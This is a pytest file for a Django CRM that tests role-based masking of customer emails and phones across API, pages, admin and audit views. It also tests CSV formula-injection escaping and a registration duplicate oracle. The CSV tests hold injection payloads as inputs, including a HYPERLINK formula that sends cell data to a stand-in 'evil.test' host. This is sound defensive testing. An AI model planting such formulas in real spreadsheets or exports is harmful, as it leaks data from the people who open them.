"""Issue #10, "PII side doors": free text (notes, revisions, task titles, comments and reasons, activity, rendered
message subjects, provider errors, import comments) shows a customer's email and phone only as the viewer may
see them, on every door (API, workspace pages, admin); CSV cells are neutralized, header included; the public
registration response is no duplicate oracle."""

from __future__ import annotations

import io
from datetime import timedelta
from types import SimpleNamespace

import pytest
from django.test import Client
from django.utils import timezone

from crm.tests.factories import customers_across_the_tree
from customers.models import Customer
from customers.tests.factories import registration_setup
from teams import pii
from teams.tests.factories import demo_staff

pytestmark = pytest.mark.django_db


def _viewer(email: str, phone: str):
    return SimpleNamespace(is_authenticated=True, is_superuser=False,
                           role=SimpleNamespace(pii_email=email, pii_phone=phone))


MASKED, AGENT, FULL = _viewer("masked", "masked"), _viewer("masked", "hidden"), _viewer("full", "full")
CUSTOMER = SimpleNamespace(email="John.Doe@Example.com", email_canonical="johndoe@example.com",
                           phone="+447700900123", country="GB")


# --- the redaction itself ------------------------------------------------------------------------------------------

@pytest.mark.parametrize(
    "text,masked,hidden",
    [
        # the customer's own email, in any case, and its canonical form
        ("mail John.Doe@Example.com", "mail J***@Example.com", "mail J***@Example.com"),
        ("mail john.doe@EXAMPLE.com.", "mail J***@Example.com.", "mail J***@Example.com."),
        # the customer's own phone in every usual notation: masked exactly like the phone field
        ("call +447700900123", "call +44*******123", "call [hidden]"),
        ("call 07700 900123!", "call +44*******123!", "call [hidden]!"),
        ("call +44 (0)7700-900-123", "call +44*******123", "call [hidden]"),
        ("call 0044 7700 900 123", "call +44*******123", "call [hidden]"),
        ("call 447700900123 or 7700900123", "call +44*******123 or +44*******123", "call [hidden] or [hidden]"),
        # somebody else's contact details are caught too
        ("or bob.smith@other.org", "or b***@other.org", "or b***@other.org"),
        ("or +33 6 12 34 56 78", "or +33******678", "or [hidden]"),
        ("or 0612345678", "or *******678", "or [hidden]"),
        ("or (415) 555-0123", "or *******123", "or [hidden]"),
        # digits in an email are the email's, not a phone
        ("x john447700900123@x.com", "x j***@x.com", "x j***@x.com"),
        # what is not contact data stays as it is
        ("deposit 1000.00 USD completed (#12)", "deposit 1000.00 USD completed (#12)",
         "deposit 1000.00 USD completed (#12)"),
        ("on 2026-11-25 13:35, account 1000023, rate 0.00012345",
         "on 2026-11-25 13:35, account 1000023, rate 0.00012345",
         "on 2026-11-25 13:35, account 1000023, rate 0.00012345"),
    ],
)
def test_redact_text_quality(text, masked, hidden):
    assert pii.redact_for(text, MASKED, CUSTOMER) == masked
    assert pii.redact_for(text, AGENT, CUSTOMER) == hidden
    assert pii.redact_for(text, FULL, CUSTOMER) == text
    assert pii.redact_for(text, None, CUSTOMER) == hidden.replace("J***@Example.com", "[hidden]").replace(
        "b***@other.org", "[hidden]").replace("j***@x.com", "[hidden]")  # no viewer: everything hidden


def test_masked_forms_match_the_fields():
    assert pii.redact_for(CUSTOMER.email, MASKED, CUSTOMER) == pii.show_email(CUSTOMER.email, MASKED)
    assert pii.redact_for(CUSTOMER.phone, MASKED, CUSTOMER) == pii.show_phone(CUSTOMER.phone, MASKED)
    assert pii.redact_data({"reason": ["x " + CUSTOMER.phone], "n": 3}, AGENT, CUSTOMER) == {
        "reason": ["x [hidden]"], "n": 3}


# --- doors ---------------------------------------------------------------------------------------------------------

@pytest.fixture
def demo(db):
    """The demo's staff, the registration set-up (paths, DEMO100, aff_demo) and one customer of each of the demo's
    owners (crm.tests.factories.customers_across_the_tree), not the whole demo seed."""
    staff = demo_staff()
    registration_setup()
    customers_across_the_tree(staff, per_owner=1)
    return staff


@pytest.fixture
def target(demo):
    """A customer the agent owns (so the agent, the manager and the admin all see it)."""
    return Customer.objects.filter(assigned_to=demo["agent"]).exclude(phone="").first()


def _national(phone: str) -> str:
    import phonenumbers

    number = phonenumbers.parse(phone)
    return phonenumbers.format_number(number, phonenumbers.PhoneNumberFormat.NATIONAL)


def _raw(customer) -> list[str]:
    return [customer.email, customer.phone, customer.phone.lstrip("+"), _national(customer.phone)]


def assert_masked(text: str, customer, persona: str):
    leaked = [v for v in _raw(customer) if v and v in text]
    assert not leaked, f"{persona} sees raw PII: {leaked}"
    if persona == "manager":
        assert pii.mask_email(customer.email) in text and pii.mask_phone(customer.phone) in text
    if persona == "agent":
        assert pii.mask_email(customer.email) in text and pii.mask_phone(customer.phone) not in text


def test_communication_log_subject_and_error_are_shown_per_viewer(client_for, demo, target):
    admin = client_for("admin")
    tid = admin.post("/api/platform/email-templates", {"name": "pii-subject"}, format="json").json()["id"]
    response = admin.put(f"/api/platform/email-templates/{tid}/translations/en",
                         {"subject": "{{customer.email}} {{customer.phone}}",
                          "body_html": "<p>{{customer.email}} {{customer.phone}}</p>",
                          "body_text": "{{customer.email}} {{customer.phone}}"}, format="json")
    assert response.status_code == 200, response.content
    Customer.objects.filter(pk=target.pk).update(locale="en")

    sent = client_for("manager").post(f"/api/platform/email-templates/{tid}/send", {"customer_id": target.pk},
                                      format="json")
    assert sent.status_code == 202
    assert_masked(sent.content.decode(), target, "manager")

    from comms.models import Message

    message = Message.objects.get(pk=sent.json()["id"])
    assert target.email in message.subject  # stored as rendered: the full viewers need it
    Message.objects.filter(pk=message.pk).update(error=f"550 mailbox {target.email} unknown; sms {target.phone}")
    url = f"/api/platform/customers/{target.pk}/communications"
    for persona in ("manager", "agent"):
        body = client_for(persona).get(url).content.decode()
        assert_masked(body, target, persona)
    full = client_for("admin").get(url).json()[0]
    assert full["subject"] == f"{target.email} {target.phone}" and target.phone in full["error"]

    page = Client()
    page.force_login(demo["agent"])
    html = page.get(f"/customers/{target.pk}/").content.decode()
    assert 'data-testid="message-subject"' in html
    assert_masked(html, target, "agent")


def test_notes_and_their_history_are_redacted(client_for, demo, target):
    admin = client_for("admin")
    raw = f"Reach them at {target.email} or {target.phone} ({_national(target.phone)})."
    note = admin.post(f"/api/crm/customers/{target.pk}/notes", {"body": raw}, format="json").json()
    assert note["body"] == raw  # full viewers see what was typed
    edited = admin.patch(f"/api/crm/notes/{note['id']}", {"body": raw + " Confirmed."}, format="json")
    assert edited.status_code == 200 and edited.json()["body"] == raw + " Confirmed."

    for persona in ("manager", "agent"):
        client = client_for(persona)
        for url in (f"/api/crm/customers/{target.pk}/notes", f"/api/crm/notes/{note['id']}",
                    f"/api/crm/notes/{note['id']}/history"):
            response = client.get(url)
            assert response.status_code == 200, url
            assert_masked(response.content.decode(), target, persona)
        page = Client()
        page.force_login(demo[persona])
        html = page.get(f"/customers/{target.pk}/").content.decode()
        assert 'data-testid="revision"' in html
        assert_masked(html, target, persona)
    history = admin.get(f"/api/crm/notes/{note['id']}/history").json()["revisions"]
    assert [r["body"] for r in history] == [raw, raw + " Confirmed."]


def test_tasks_transactions_unfreeze_and_activity_are_redacted(client_for, demo, target):
    admin = client_for("admin")
    contact = f"{target.email} / {target.phone}"
    due = (timezone.now() - timedelta(hours=1)).isoformat()
    task = admin.post("/api/crm/tasks", {"customer_id": target.pk, "title": f"Call {contact}", "due_at": due,
                                         "assignee_id": demo["agent"].pk}, format="json")
    assert task.status_code == 201, task.content
    from crm.services import tasks_flag_overdue

    assert tasks_flag_overdue() >= 1  # an activity entry and a notification, both quoting the title
    tx = admin.post("/api/backoffice/transactions", {"customer_id": target.pk, "type": "deposit",
                                                     "amount": "10.00", "currency": target.accounts.first().currency,
                                                     "comment": f"wire from {contact}"}, format="json")
    assert tx.status_code in (200, 201), tx.content
    Customer.objects.filter(pk=target.pk).update(finance_status="frozen")
    unfrozen = admin.post(f"/api/backoffice/customers/{target.pk}/unfreeze", {"reason": f"confirmed with {contact}"},
                          format="json")
    assert unfrozen.status_code == 200, unfrozen.content
    admin.post(f"/api/crm/customers/{target.pk}/transitions",
               {"pipeline": "sales", "to": "contacted", "reason": f"spoke to {contact}"}, format="json")

    doors = ["/api/crm/tasks?scope=team", f"/api/backoffice/transactions?customer={target.pk}",
             f"/api/crm/customers/{target.pk}/activity", "/api/crm/activity"]
    for persona in ("manager", "agent"):
        client = client_for(persona)
        for url in doors:
            response = client.get(url)
            if response.status_code == 403:
                continue
            assert response.status_code == 200, (url, response.content)
            assert_masked(response.content.decode(), target, persona)
    page = Client()
    page.force_login(demo["agent"])
    for url in (f"/customers/{target.pk}/", "/tasks/", "/activity/"):
        html = page.get(url).content.decode()
        assert not [v for v in _raw(target) if v in html], url
        assert pii.mask_email(target.email) in html, url
    full = admin.get(f"/api/crm/customers/{target.pk}/activity").content.decode()
    assert target.phone in full


def test_audit_snapshots_are_redacted_for_a_masked_auditor(client_for, demo, target):
    from teams.models import Role

    admin = client_for("admin")
    Customer.objects.filter(pk=target.pk).update(finance_status="frozen")
    assert admin.post(f"/api/backoffice/customers/{target.pk}/unfreeze",
                      {"reason": f"ok per {target.phone}"}, format="json").status_code == 200
    role = Role.objects.create(name="masked-auditor", permissions=["administration.view_audit_log"],
                               customer_view_scope="all", customer_edit_scope="none", pii_email="masked",
                               pii_phone="masked")
    auditor = demo["admin"].__class__.objects.create_user("auditor@demo.test", "demo-password", role=role,
                                                          team=demo["admin"].team)
    from rest_framework.test import APIClient

    client = APIClient()
    client.force_authenticate(auditor)
    body = client.get("/api/platform/audit-log").content.decode()
    assert target.phone not in body and pii.mask_phone(target.phone) in body
    assert target.phone in admin.get("/api/platform/audit-log").content.decode()


def test_admin_columns_show_free_text_per_viewer(demo, target):
    """The Django admin is for superusers today (full PII), but its free-text columns go through teams.pii like
    every door, so a masked role given the admin later sees them masked."""
    from django.contrib import admin
    from django.test import RequestFactory

    from comms.models import Message
    from customers.models import Activity
    from customers.services import activity_record

    activity = activity_record(customer=target, verb="test", summary=f"about {target.phone}",
                               data={"r": target.email})
    message = Message.objects.create(customer=target, channel="email", template_name="t", locale="en",
                                     recipient=target.email, subject=f"hi {target.email}", body="x",
                                     error=f"bounced {target.phone}")
    for persona, model, obj, names in (("manager", Activity, activity, ("summary", "data")),
                                       ("agent", Message, message, ("subject", "error"))):
        request = RequestFactory().get("/admin/")
        request.user = demo[persona]
        model_admin = admin.site._registry[model]
        assert not set(names) & set(f for f in model_admin.get_fields(request, obj) if isinstance(f, str))
        shown = " ".join(str(col(obj)) for col in model_admin.get_readonly_fields(request, obj) if callable(col))
        shown += " ".join(str(col(obj)) for col in model_admin.get_list_display(request) if callable(col))
        assert target.email not in shown and target.phone not in shown
        assert pii.mask_email(target.email) in shown
    request.user = demo["admin"]
    assert target.phone in str(admin.site._registry[Message]._redacted(request)["error"](message))


def test_import_comment_becomes_a_redacted_note(client_for, demo):
    from imports.services import import_create, import_process

    header = "email,phone,first_name,last_name,country,assigned_to_email,comment\n"
    row = "imported.person@example.org,+447911123456,Imp,Orted,GB,agent@demo.test," \
          "\"Asked to be called on +447911123456 or 07911 123456, mail imported.person@example.org\"\n"
    job = import_create(by=demo["admin"], raw=(header + row).encode(), file_name="leads.csv", rate_per_second=0)
    import_process(job_id=job.pk)
    customer = Customer.objects.get(email="imported.person@example.org")
    assert customer.notes.count() == 1
    for persona in ("manager", "agent"):
        body = client_for(persona).get(f"/api/crm/customers/{customer.pk}/notes").content.decode()
        assert_masked(body, customer, persona)
    assert "07911 123456" in client_for("admin").get(f"/api/crm/customers/{customer.pk}/notes").json()[0]["body"]


# --- CSV -----------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("cell,safe", [
    ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"), ("@evil", "'@evil"), ("+1", "'+1"), ("-1", "'-1"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), (" =1+1", "' =1+1"), ("\n@x", "'\n@x"), ("＝1+1", "'＝1+1"),
    ("plain", "plain"), ("a=b", "a=b"), (None, ""), (5, "5"),
])
def test_csv_cell(cell, safe):
    from brokercrm.csvutil import csv_cell

    assert csv_cell(cell) == safe


def test_rejections_header_is_neutralized(client_for, demo):
    from imports.services import import_create, import_process

    evil = ['=hyperlink("http://evil.test/?"&A1;"click")', "@evil", "+cmd", "-2+3"]
    header = "email,phone,first_name,last_name,country," + ",".join(f'"{h.replace(chr(34), chr(34) * 2)}"'
                                                                   for h in evil)
    content = header + "\nbad-email,+447911123456,A,B,GB,1,2,3,4\n"
    response = client_for("admin").post("/api/backoffice/customers/import", {"file": io.BytesIO(content.encode())},
                                        format="multipart")
    assert response.status_code == 202, response.content
    import_process(job_id=response.json()["job_id"])
    csv_response = client_for("admin").get(f"/api/backoffice/customers/import/{response.json()['job_id']}/rejections")
    text = b"".join(csv_response.streaming_content).decode()
    import csv

    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 2
    for cell in rows[0] + rows[1]:
        assert not cell.startswith(("=", "+", "-", "@")), cell
    assert "'@evil" in rows[0] and "'=hyperlink(\"http://evil.test/?\"&a1;\"click\")" in rows[0]
    assert import_create  # imported for symmetry with the other import test


def test_customer_export_header_and_cells_go_through_the_shared_writer(client_for, demo):
    Customer.objects.filter(pk=Customer.objects.first().pk).update(last_name="@SUM(1)")
    text = b"".join(client_for("admin").get("/api/crm/customers/export").streaming_content).decode()
    assert text.splitlines()[0].startswith("id,first_name") and ",'@SUM(1)," in text


# --- registration oracle --------------------------------------------------------------------------------------------

@pytest.mark.parametrize("source", ["organic", "affiliate", "promo"])
def test_registration_response_does_not_say_possible_duplicate(api, demo, client_for, source):
    from customers.models import FraudSettings

    existing = Customer.objects.exclude(phone="").first()
    fraud = FraudSettings.current()
    body = {"email": f"new-{source}@example.org", "password": "TestPass1234x", "first_name": "N", "last_name": "M",
            "phone": existing.phone, "country": "FR" if existing.country != "FR" else "DE", "source": source}
    headers = {}
    if source == "affiliate":
        body["affiliate_id"] = "aff_demo"
        headers["HTTP_X_API_KEY"] = "demo-affiliate-key"
    if source == "promo":
        body["promo_code"] = "DEMO100"
    FraudSettings.objects.filter(pk=fraud.pk).update(strict_phone_validation=False)
    response = api.post("/api/customer/register", body, format="json", **headers)
    assert response.status_code == 201, response.content
    assert "possible_duplicate" not in response.json() and "duplicate" not in response.content.decode()
    new = Customer.objects.get(pk=response.json()["id"])
    assert new.possible_duplicate_of_id == existing.pk  # flagged for staff
    staff = client_for("admin").get(f"/api/crm/customers/{new.pk}").json()
    assert staff["possible_duplicate_of"] == existing.pk
